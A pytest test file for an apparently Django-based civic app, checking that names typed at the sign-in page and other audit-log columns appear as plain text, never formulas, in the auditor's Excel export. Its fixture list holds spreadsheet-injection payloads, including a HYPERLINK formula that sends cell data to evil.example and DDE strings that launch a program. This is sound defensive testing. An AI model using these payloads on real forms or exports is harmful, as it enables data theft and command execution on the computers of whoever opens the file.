"""The auditor's Excel export writes every text as text: a user name typed at the sign-in
page (kept by the failed-login row as its target) or any other column that starts like a
formula is never a formula in the file, and keeps its text."""

import io

import pytest
from django.db import transaction
from django.test import Client
from openpyxl import load_workbook

from civicgrid.conftest import City
from civicgrid.core.audit import audit_row
from civicgrid.core.models import AuditLog

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_names_typed_at_sign_in_are_text_in_the_audit_export(client: Client, city: City) -> None:
    for number, name in enumerate(NAMES):
        attempt = Client(REMOTE_ADDR=f"203.0.113.{number + 1}")
        assert attempt.post("/login/", {"username": name, "password": "x"}).status_code == 200
    failed = AuditLog.objects.filter(verb="accounts.login_failed")
    assert set(failed.values_list("target_id", flat=True)) == {name.strip() for name in NAMES}
    with transaction.atomic():  # the other text columns too: actor, via, target type
        row = audit_row(actor="=1+2", verb="=3+4", target_type="=5+6", target_id="@7", target_label="-8")
        row.via = "=9+10"
        row.save(force_insert=True)
    client.force_login(city.auditor)
    response = client.get("/audit/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {name.strip() for name in NAMES} <= values
    assert {"=1+2", "=9+10", "=3+4", "=5+6", "@7", "-8"} <= values
